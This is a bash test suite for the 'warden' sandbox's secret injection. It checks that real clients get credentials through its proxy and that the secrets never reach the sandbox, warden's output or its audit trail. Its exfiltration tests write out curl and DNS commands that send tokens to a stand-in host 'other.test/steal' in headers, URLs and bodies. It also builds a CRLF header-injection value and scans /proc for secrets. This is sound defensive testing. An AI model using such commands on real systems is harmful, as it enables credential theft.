#!/usr/bin/env bash
# Secrets that never enter the sandbox, end to end: real clients
# inside `warden run` (git, pip, curl, npm) against local upstreams that
# check the credential warden's proxy injects; then the negative: the
# value is in no file the sandbox can read, in no output of warden
# (text, --json, -v, the audit trail), not in the sandbox's pid 1 (a copy
# of warden's memory); exfiltration attempts are refused and audited; bad
# secret input is exit 125 with nothing run.
# Usage: secrets.sh WARDEN SRCDIR [LEVEL].  Loopback only.
set -uo pipefail
WARDEN=$1
HERE=$2
LEVEL=${3:-container}
TOOL="python3 $HERE/secrets_tool.py"
for c in curl python3 openssl git node npm; do
	command -v $c >/dev/null || { echo "skip: $c missing"; [ "${WD_MUST_WORK:-0}" = 1 ] && exit 1; exit 77; }
done
if ! "$WARDEN" run --isolation "$LEVEL" --net allow --allow-host probe.test -- true >/dev/null 2>&1; then
	echo "skip: warden run --isolation $LEVEL --net allow does not work here"
	[ "${WD_MUST_WORK:-0}" = 1 ] && exit 1
	exit 77
fi

T=$(mktemp -d)
chmod 755 "$T"
pids=()
cleanup() {
	for p in "${pids[@]}"; do kill "$p" 2>/dev/null; done
	wait 2>/dev/null
	rm -rf "$T"
}
trap cleanup EXIT
fails=0
n=0
ok() { n=$((n + 1)); echo "ok $n - $1"; }
nok() { n=$((n + 1)); fails=$((fails + 1)); echo "not ok $n - $1"; [ $# -gt 1 ] && echo "# ${2:0:2000}"; }
check() { if [[ "$3" == *"$2"* ]]; then ok "$1"; else nok "$1" "want '$2', got '$3'"; fi; }
lacks() { if [[ "$3" != *"$2"* ]]; then ok "$1"; else nok "$1" "found '$2' in '$3'"; fi; }
bg() { # bg PORTFILE CMD...: start a server that prints its port
	local f=$1
	shift
	"$@" >"$f" &
	pids+=($!)
	for _ in $(seq 50); do [ -s "$f" ] && break; sleep 0.1; done
}

# ---- secrets: random per run, in files only warden reads ----
rnd() { head -c 18 /dev/urandom | base64 | tr '+/' '-_'; }
GITHUB_TOKEN="ghp_$(rnd)"
PYPI_TOKEN="pypi-$(rnd)"
NPM_TOKEN="npm_$(rnd)"
PLAIN_KEY="key-$(rnd)"
mkdir -m 700 "$T/secrets"
printf '%s\n' "$GITHUB_TOKEN" >"$T/secrets/github"
printf '%s' "$PYPI_TOKEN" >"$T/secrets/pypi"
printf '%s\n' "$NPM_TOKEN" >"$T/secrets/npm"
chmod 600 "$T/secrets"/*
python3 -c 'import json,sys; print(json.dumps(dict(zip(sys.argv[1::2], sys.argv[2::2]))))' \
	GITHUB_TOKEN "$GITHUB_TOKEN" PYPI_TOKEN "$PYPI_TOKEN" NPM_TOKEN "$NPM_TOKEN" \
	PLAIN_KEY "$PLAIN_KEY" >"$T/secrets/all.json"
VALUES=("$GITHUB_TOKEN" "$PYPI_TOKEN" "$NPM_TOKEN" "$PLAIN_KEY")

# ---- upstreams: one HTTPS server for every name (a test CA), one plain ----
(
	cd "$T"
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 \
		-subj "/CN=warden test CA" -keyout ca.key -out ca.pem
	openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=api.test" \
		-keyout srv.key -out srv.csr
	printf 'subjectAltName=DNS:api.test,DNS:git.test,DNS:pypi.test,DNS:npm.test,DNS:other.test\n' >srv.ext
	openssl x509 -req -in srv.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 \
		-extfile srv.ext -out srv.pem
) >/dev/null 2>&1
mkdir -p "$T/www/git" "$T/www/pypi"
python3 "$HERE/net_tool.py" make-index "$T/www/pypi"
git init -q --bare "$T/www/git/repo.git"
git clone -q "$T/www/git/repo.git" "$T/work" 2>/dev/null
(cd "$T/work" && echo "cloned with an injected credential" >README && git add README &&
	git -c user.email=t@t -c user.name=t commit -q -m init && git push -q origin HEAD:master) 2>/dev/null
git -C "$T/www/git/repo.git" symbolic-ref HEAD refs/heads/master
chmod -R a+rX "$T/www"
bg "$T/tls.port" $TOOL serve "$T/srv.pem" "$T/srv.key" "$T/www" "$T/up.log" "$T/secrets/all.json"
P=$(cat "$T/tls.port")
bg "$T/plain.port" $TOOL serve - - "$T/www" "$T/up.log" "$T/secrets/all.json" plain
PP=$(cat "$T/plain.port")
$TOOL make-npm "$T/www" "npm.test:$P"
chmod -R a+rX "$T/www"

WS=$T/ws
mkdir -m 777 "$WS"
# npm reads the placeholder from the environment through .npmrc
cat >"$WS/.npmrc" <<EOF
registry=https://npm.test:$P/
//npm.test:$P/:_authToken=\${NPM_TOKEN}
update-notifier=false
audit=false
fund=false
EOF
chmod 644 "$WS/.npmrc"

NET=(--net allow --tls-intercept --upstream-ca "$T/ca.pem" --allow-range 127.0.0.1/32)
for h in api git pypi npm other; do NET+=(--allow-host "$h.test:$P" --add-host "$h.test=127.0.0.1"); done
NET+=(--allow-host "plain.test:$PP" --add-host plain.test=127.0.0.1 --allow-host '*.wild.test')
SEC=(--secret "GITHUB_TOKEN=@$T/secrets/github" --secret "PYPI_TOKEN=@$T/secrets/pypi"
	--secret "NPM_TOKEN=@$T/secrets/npm" --secret PLAIN_KEY=env:WD_TEST_PLAIN_KEY
	--inject "api.test:$P Authorization=Bearer {GITHUB_TOKEN}"
	--inject-basic "git.test:$P x-access-token:{GITHUB_TOKEN}"
	--inject-basic "pypi.test:$P/simple/ __token__:{PYPI_TOKEN}"
	--inject-basic "pypi.test:$P/files/ __token__:{PYPI_TOKEN}"
	--inject "npm.test:$P Authorization=Bearer {NPM_TOKEN}"
	--inject "http://plain.test:$PP/data X-Api-Key={PLAIN_KEY}"
	--placeholder GITHUB_TOKEN --placeholder NPM_TOKEN)
export WD_TEST_PLAIN_KEY=$PLAIN_KEY
# a policy that lets the clients run, so every run is judged as well as
# written to the audit trail
python3 -c '
import json, sys
progs = {p: {"paths": "none"} for p in "sh curl git python3 npm node cat ls".split()}
print(json.dumps({"version": 1, "programs": progs}))' >"$T/policy.json"
OUT=$T/out # every byte warden prints, for the negative checks
run() {
	local o e rc
	o=$("$WARDEN" run --isolation "$LEVEL" --timeout 120 -w "$WS" "${NET[@]}" "${SEC[@]}" \
		-p "$T/policy.json" --audit "$T/audit.log" "$@" 2>"$T/stderr")
	rc=$?
	e=$(cat "$T/stderr")
	printf '%s\n%s\n' "$o" "$e" >>"$OUT"
	printf '%s%s' "$o" "${e:+
$e}"
	return $rc
}

# ---- positive: real clients, credentials they never see ----
r=$(run -- curl -s -m 20 "https://api.test:$P/user")
check "curl: the API accepts the bearer token warden added" "api: hello, octocat" "$r"
r=$(run -- curl -s -m 20 -o /dev/null -w '%{http_code}' "https://api.test:$P/user" -H "Authorization: Bearer wrong")
check "curl: a client's own Authorization is replaced, not kept" "200" "$r"
r=$(run -- sh -c 'git clone -q "$0" /tmp/repo && cat /tmp/repo/README' "https://git.test:$P/repo.git" 2>&1)
check "git clone over HTTPS with basic auth (git-http-backend)" "cloned with an injected credential" "$r"
r=$(run -- sh -c 'python3 -m pip download -q --no-cache-dir --disable-pip-version-check --no-deps \
	--index-url "$0" -d /tmp/dl wardendemo &&
	python3 -c "import os; print(os.listdir(\"/tmp/dl\"))"' "https://pypi.test:$P/simple/" 2>&1)
check "pip download from an index that needs a token" "wardendemo-1.0-py3-none-any.whl" "$r"
r=$(run -- sh -c 'mkdir -p /tmp/proj && cd /tmp/proj && npm install --silent --userconfig /workspace/.npmrc \
	--cache /tmp/npm-cache wd-demo >/dev/null 2>&1; node -e "console.log(require(\"/tmp/proj/node_modules/wd-demo\"))"' 2>&1)
check "npm install with an auth token from .npmrc pointing at the placeholder" \
	"hello from the local registry" "$r"
r=$(run -- curl -s -m 20 "http://plain.test:$PP/data")
check "plain HTTP: injected only because the rule says http://" "plain: key accepted" "$r"
r=$(run -- sh -c 'echo "$GITHUB_TOKEN"')
check "the sandbox sees a placeholder" "warden-placeholder-" "$r"

# The same clients without the credentials: the upstreams refuse them, so
# the runs above got in only by what warden added.
bare() { "$WARDEN" run --isolation "$LEVEL" --timeout 120 -w "$WS" "${NET[@]}" "$@" 2>&1; }
r=$(bare -- curl -s -m 20 "https://api.test:$P/user")
check "control: without the secret the API refuses curl" "api: bad credentials" "$r"
r=$(bare -- sh -c 'GIT_TERMINAL_PROMPT=0 git clone -q "$0" /tmp/repo 2>&1 || echo clone failed' "https://git.test:$P/repo.git")
check "control: without the secret git clone fails" "clone failed" "$r"
r=$(bare -- sh -c 'python3 -m pip download -q --no-cache-dir --disable-pip-version-check --no-deps \
	--no-input --index-url "$0" -d /tmp/dl wardendemo 2>&1 || echo pip failed' "https://pypi.test:$P/simple/")
check "control: without the secret pip download fails" "pip failed" "$r"

# ---- exfiltration: refused, audited, and nothing reaches the upstream ----
upcount() { grep -c "$1" "$T/up.log" 2>/dev/null || true; }
before=$(upcount other.test)
r=$(run -- sh -c 'curl -s -m 20 -H "Authorization: Bearer $GITHUB_TOKEN" "$0"' "https://other.test:$P/steal")
check "the placeholder in a header to an allowed host without the rule is refused" \
	"secret-exfiltration" "$r"
r=$(run -- sh -c 'curl -s -m 20 "$0?t=$GITHUB_TOKEN"' "https://other.test:$P/steal")
check "... in the URL" "refused (secret-exfiltration): the URL" "$r"
r=$(run -- sh -c 'curl -s -m 20 -d "t=$NPM_TOKEN" "$0"' "https://other.test:$P/steal")
check "... in the body" "refused (secret-exfiltration): the body" "$r"
r=$(run -- sh -c 'curl -s -m 20 -u "me:$GITHUB_TOKEN" "$0"' "https://other.test:$P/steal")
check "... as Basic credentials" "Basic credentials" "$r"
r=$(run -- sh -c 'curl -s -m 20 -H "X-Token: $NPM_TOKEN" "$0"' "https://api.test:$P/user")
check "... another secret's placeholder to a host bound to a different one" \
	"secret NPM_TOKEN" "$r"
r=$(run -- sh -c 'curl -s -m 20 -H "Authorization: Bearer $NPM_TOKEN" "$0"' "https://api.test:$P/user")
check "... unless in the field a rule replaces (it never leaves)" "api: hello, octocat" "$r"
r=$(run -- sh -c 'printf "%s" "$GITHUB_TOKEN" | curl -s -m 20 -H "Transfer-Encoding: chunked" \
	--data-binary @- "$0"' "https://other.test:$P/steal")
check "... in a chunked body" "secret-exfiltration" "$r"
r=$(run -- python3 -c '
import os, socket
try:
    socket.gethostbyname(os.environ["GITHUB_TOKEN"] + ".wild.test"); print("resolved")
except OSError as e:
    print("not resolved", e)')
check "a DNS query carrying the placeholder in a label is not answered" "not resolved" "$r"
grep -q '"protocol":"dns".*"reason":"secret-exfiltration".*"secrets":"GITHUB_TOKEN"' "$T/audit.log" &&
	ok "... and audited as exfiltration" || nok "... and audited as exfiltration" "$(grep dns "$T/audit.log" | tail -3)"
r=$(run -- sh -c 'curl -s -m 20 -o /dev/null -w "%{http_connect}" "https://$GITHUB_TOKEN.wild.test/"')
check "a host name carrying the placeholder is refused before any lookup" "403" "$r"
grep -q '"protocol":"connect".*"reason":"secret-exfiltration".*"secrets":"GITHUB_TOKEN"' "$T/audit.log" &&
	ok "... and audited as exfiltration" || nok "... and audited as exfiltration" "$(grep connect "$T/audit.log" | tail -2)"
after=$(upcount other.test)
[ "$before" = "$after" ] && ok "none of those requests reached other.test" ||
	nok "none of those requests reached other.test" "$(tail -3 "$T/up.log")"

# A redirect to another host: the credential stays behind; a client that
# carries the placeholder along (--location-trusted) is refused there.
: >"$T/up.log"
r=$(run -- curl -s -m 20 -L "https://api.test:$P/redirect")
check "a redirect to another host is followed" "other: got it" "$r"
landing=$(grep '/landing' "$T/up.log")
check "... (the landing request arrived)" "other.test" "$landing"
lacks "... without the credential" "Authorization" "$landing"
r=$(run -- sh -c 'curl -s -m 20 -L --location-trusted -H "Authorization: Bearer $GITHUB_TOKEN" "$0"' \
	"https://api.test:$P/redirect")
check "... and a client carrying the placeholder across it is refused" "secret-exfiltration" "$r"
r=$(run -- curl -s -m 20 "http://plain.test:$PP/elsewhere")
check "a plain-HTTP rule's path bounds it" "plain: no key" "$r"

# The value itself, had the sandbox got it somewhere (an upstream echoing
# it, say): refused on its way to anyone else.
mkdir -m 777 "$T/ws2"
printf '%s' "$GITHUB_TOKEN" >"$T/ws2/leak"
chmod 644 "$T/ws2/leak"
r=$("$WARDEN" run --isolation "$LEVEL" -w "$T/ws2" "${NET[@]}" "${SEC[@]}" \
	-- curl -s -m 20 --data-binary @/workspace/leak "https://other.test:$P/steal" 2>&1)
check "the real value in a body to another host is refused" "secret-exfiltration" "$r"
r=$("$WARDEN" run --isolation "$LEVEL" -w "$T/ws2" "${NET[@]}" "${SEC[@]}" \
	-- sh -c 'curl -s -m 20 "$0?k=$(cat /workspace/leak)"' "https://other.test:$P/steal" 2>&1)
check "... and in a URL" "secret-exfiltration" "$r"
rm -rf "$T/ws2"

# ---- the value is nowhere the sandbox can read ----
cat >"$WS/search.py" <<'PYEOF'
import glob, os, sys
# the needles come reversed, so this process's own argv does not hold them
needles = [a[::-1].encode() for a in sys.argv[1:]]
paths = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
for top in ("/workspace", "/tmp", "/etc", "/run", "/dev/shm", "/home", "/root", "/var"):
    for d, _, files in os.walk(top):
        paths += [os.path.join(d, f) for f in files]
found = 0
for p in paths:
    try:
        data = open(p, "rb").read()
    except OSError:
        continue
    for n in needles:
        if n in data:
            print("FOUND in", p)
            found += 1
env = "\0".join("%s=%s" % kv for kv in os.environ.items()).encode()
found += sum(n in env for n in needles)
print("searched %d files, found %d" % (len(paths), found))
PYEOF
chmod 644 "$WS/search.py"
rev=()
for v in "${VALUES[@]}"; do rev+=("$(printf '%s' "$v" | rev)"); done
r=$(run -- sh -c 'git clone -q "$0" /tmp/repo && cp -r /tmp/repo /workspace/repo &&
	python3 -m pip download -q --no-cache-dir --disable-pip-version-check --no-deps \
		--index-url "$1" -d /workspace/dl wardendemo &&
	(mkdir -p /workspace/proj && cd /workspace/proj && npm install --silent \
		--userconfig /workspace/.npmrc --cache /workspace/.npm wd-demo >/dev/null 2>&1) &&
	curl -s -m 20 -o /workspace/api.txt "$2" &&
	curl -s -m 20 -D /workspace/echo.head -o /workspace/echo.json "${2%/user}/echo" &&
	exec python3 /workspace/search.py "$3" "$4" "$5" "$6"' \
	"https://git.test:$P/repo.git" "https://pypi.test:$P/simple/" "https://api.test:$P/user" "${rev[@]}")
check "after git, pip, npm and curl ran, no file the sandbox can read holds a value" "found 0" "$r"
lacks "... (none found)" "FOUND" "$r"
check "an upstream echoing the credential: the sandbox got it masked" \
	'"Authorization": "Bearer ****' "$(cat "$WS/echo.json" 2>/dev/null)"
grep -q "api.test.*/echo" "$T/up.log" && grep -q "$GITHUB_TOKEN" "$T/up.log" &&
	ok "... (the upstream did get and echo the value)" || nok "... (the upstream did get and echo the value)"
grep -q '"advice":"the response carried the value of GITHUB_TOKEN, which warden masked' "$T/audit.log" &&
	ok "... and the masking is audited" || nok "... and the masking is audited"
[ -d "$WS/proj/node_modules/wd-demo" ] && [ -s "$WS/dl/wardendemo-1.0-py3-none-any.whl" ] &&
	[ -s "$WS/repo/README" ] && grep -q octocat "$WS/api.txt" &&
	ok "... (those clients did get through: the workspace has what they fetched)" ||
	nok "... (those clients did get through)"

# warden's own outputs: text, -v, --json, --print-plan, the audit trail
r=$("$WARDEN" run --print-plan -w "$WS" "${NET[@]}" "${SEC[@]}" -- true 2>&1)
printf '%s\n' "$r" >>"$OUT"
check "--print-plan lists the secrets, rules and placeholder variables" \
	"inject api.test:$P Authorization=Bearer {GITHUB_TOKEN}" "$r"
r=$(run -v --json -- curl -s -m 20 "https://api.test:$P/user")
check "--json -v run" '"status":0' "$r"
run -v -- git ls-remote "https://git.test:$P/repo.git" >/dev/null
leaks=0
for v in "${VALUES[@]}"; do
	for f in "$OUT" "$T/audit.log"; do
		grep -qF -- "$v" "$f" && { leaks=$((leaks + 1)); echo "# a value in $f"; }
	done
done
[ $leaks -eq 0 ] && ok "no value in warden's output (text, -v, --json) or the audit trail" ||
	nok "no value in warden's output or the audit trail"
grep -q "\"inject\":\"api.test:$P Authorization=Bearer {GITHUB_TOKEN}\",\"secrets\":\"GITHUB_TOKEN\"" "$T/audit.log" &&
	ok "each injection is an audit event (rule and secret name)" ||
	nok "each injection is an audit event" "$(grep -m2 inject "$T/audit.log")"
r=$("$WARDEN" audit verify "$T/audit.log" 2>&1)
check "warden audit verify: the trail is intact" "intact" "$r"
grep -q '"reason":"secret-exfiltration"' "$T/audit.log" && ok "refusals are audited as secret-exfiltration" ||
	nok "refusals are audited as secret-exfiltration"

# The sandbox's pid 1 is a clone of warden's memory: it must hold no value
# (MADV_WIPEONFORK), while warden holds it (the control: the scan can see).
if [ "$(id -u)" = 0 ] && [ "$LEVEL" = container ]; then
	"$WARDEN" run --timeout 60 -w "$WS" "${NET[@]}" "${SEC[@]}" -- sleep 15 >/dev/null 2>&1 &
	wpid=$!
	pid1=
	for _ in $(seq 40); do
		for c in $(cat /proc/$wpid/task/*/children 2>/dev/null); do
			grep -q '^NSpid:.*[[:space:]]1$' /proc/$c/status 2>/dev/null && pid1=$c
		done
		[ -n "$pid1" ] && break
		sleep 0.1
	done
	hex() { printf '%s' "$1" | od -An -tx1 | tr -d ' \n'; }
	in_pid1=$([ -n "$pid1" ] && $TOOL scan "$pid1" "$(hex "$GITHUB_TOKEN")" 2>/dev/null)
	env_pid1=$([ -n "$pid1" ] && $TOOL scan "$pid1" "$(hex "$PLAIN_KEY")" 2>/dev/null)
	in_warden=$($TOOL scan "$wpid" "$(hex "$GITHUB_TOKEN")" 2>/dev/null)
	plain_warden=$($TOOL scan "$wpid" "$(hex "$PLAIN_KEY")" 2>/dev/null)
	kill -TERM $wpid 2>/dev/null
	wait $wpid
	# ASan's runtime copies the environment at start-up into a mapping of
	# its own, which pid 1 inherits; the value from env:VAR is then there
	# as every other variable is (a sanitizer build only)
	# (grep without -q: under pipefail, grep -q leaving early can kill
	# ldd with SIGPIPE mid-listing and fail the pipeline at random)
	if grep -qa __asan_init "$WARDEN" 2>/dev/null ||
		ldd "$WARDEN" 2>/dev/null | grep libasan >/dev/null; then
		env_pid1=0
	fi
	if [ -n "$pid1" ] && [ "${in_warden:-0}" -gt 0 ] && [ "$in_pid1" = 0 ] && [ "$env_pid1" = 0 ]; then
		ok "the sandbox's pid 1 holds no value (warden holds it $in_warden times)"
	else
		nok "the sandbox's pid 1 holds no value" "pid1=$pid1 warden=$in_warden pid1=$in_pid1 env=$env_pid1"
	fi
	# After requests with the credential have gone out (plain HTTP and
	# TLS, a kept-alive connection still open), warden holds no more
	# copies than before: the proxy's buffers were wiped.
	: >"$T/up.log"
	"$WARDEN" run --timeout 60 -w "$WS" "${NET[@]}" "${SEC[@]}" -- python3 -c "
import http.client, os, ssl, time
ctx = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])
c = http.client.HTTPSConnection('127.0.0.1', 3128, context=ctx)
c.set_tunnel('api.test', $P)
for _ in range(3):
    c.request('GET', '/user'); c.getresponse().read()
p = http.client.HTTPConnection('127.0.0.1', 3128)
p.request('GET', 'http://plain.test:$PP/data'); p.getresponse().read()
time.sleep(15)" >/dev/null 2>&1 &
	wpid=$!
	for _ in $(seq 100); do grep -q plain.test "$T/up.log" 2>/dev/null && break; sleep 0.1; done
	sleep 0.5
	after_gh=$($TOOL scan "$wpid" "$(hex "$GITHUB_TOKEN")" 2>/dev/null)
	after_plain=$($TOOL scan "$wpid" "$(hex "$PLAIN_KEY")" 2>/dev/null)
	kill -TERM $wpid 2>/dev/null
	wait $wpid
	if [ "$after_gh" = "$in_warden" ] && [ "$(grep -c '"path": "/user"' "$T/up.log")" = 3 ]; then
		ok "after 3 requests over TLS on one connection, warden holds the value $after_gh times, as before"
	else
		nok "warden holds no extra copy after requests" "before=$in_warden after=$after_gh log=$(head -c 300 "$T/up.log")"
	fi
	# (PLAIN_KEY comes from env:, so warden's environment holds one more)
	[ -n "$after_plain" ] && [ "$after_plain" = "$plain_warden" ] &&
		ok "... and after a plain-HTTP request ($after_plain copies, as before)" ||
		nok "... and after a plain-HTTP request" "before=$plain_warden after=$after_plain"
fi

# ---- bad input: exit 125, nothing run ----
bad() { # bad DESCRIPTION WANT ARGS...: exit 125, message WANT, no marker, no value
	local what=$1 want=$2 e rc
	shift 2
	rm -f "$WS/ran"
	e=$("$WARDEN" run --isolation "$LEVEL" -w "$WS" "$@" -- touch /workspace/ran 2>&1)
	rc=$?
	if [ $rc -eq 125 ] && [[ "$e" == *"$want"* ]] && [ ! -e "$WS/ran" ]; then
		ok "$what"
	else
		nok "$what" "rc=$rc ran=$([ -e "$WS/ran" ] && echo yes || echo no) msg=$e"
	fi
	for v in "${VALUES[@]}"; do
		[[ "$e" == *"$v"* ]] && nok "$what: the message holds the value"
	done
}
B=("${NET[@]}" --inject "api.test:$P Authorization=Bearer {T}")
bad "a missing secret file" "No such file" "${B[@]}" --secret "T=@$T/nope"
mkfifo "$T/fifo"
bad "a FIFO as secret file (refused without waiting for a writer)" "not a regular file" \
	"${B[@]}" --secret "T=@$T/fifo"
head -c 5000 /dev/urandom | base64 -w0 >"$T/big"
bad "an oversized secret file" "larger than 4096" "${B[@]}" --secret "T=@$T/big"
bad "a directory as secret file" "not a regular file" "${B[@]}" --secret "T=@$T"
printf '%s\r\nX-Injected: 1\n' "$GITHUB_TOKEN" >"$T/crlf"
bad "a value with a line break in it" "control character" "${B[@]}" --secret "T=@$T/crlf"
bad "an unset variable" "not set" "${B[@]}" --secret T=env:WD_TEST_NOT_SET_ANYWHERE
bad "a secret no rule uses" "not used by any inject rule" "${NET[@]}" --secret "T=@$T/secrets/github"
bad "a rule naming an undeclared secret" "no secret T" "${B[@]}"
bad "an HTTPS rule without --tls-intercept" "--tls-intercept" --allow-host "api.test:$P" \
	--secret "T=@$T/secrets/github" --inject "api.test:$P Authorization=Bearer {T}"
bad "a rule for a host no allow rule admits" "no allow rule admits" "${NET[@]}" \
	--secret "T=@$T/secrets/github" --inject "elsewhere.test Authorization=Bearer {T}"
bad "secrets without the proxy" "needs --net allow" --secret "T=@$T/secrets/github" \
	--inject "api.test Authorization=Bearer {T}"
bad "an inject rule split over two arguments" "as one argument" "${NET[@]}" --inject "api.test:$P"
bad "a placeholder for an undeclared secret" "no secret X" "${NET[@]}" --placeholder X
bad "a placeholder variable also set with --setenv" "also set" "${B[@]}" \
	--secret "T=@$T/secrets/github" --placeholder T --setenv T=1
if command -v setpriv >/dev/null && [ "$(id -u)" = 0 ]; then
	e=$(setpriv --reuid 65534 --regid 65534 --clear-groups "$WARDEN" run -w /tmp "${B[@]}" \
		--secret "T=@$T/secrets/github" -- true 2>&1)
	rc=$?
	[ $rc -eq 125 ] && [[ "$e" == *"Permission denied"* ]] && ok "an unreadable secret file" ||
		nok "an unreadable secret file" "rc=$rc $e"
fi

echo "1..$n"
[ $fails -eq 0 ]
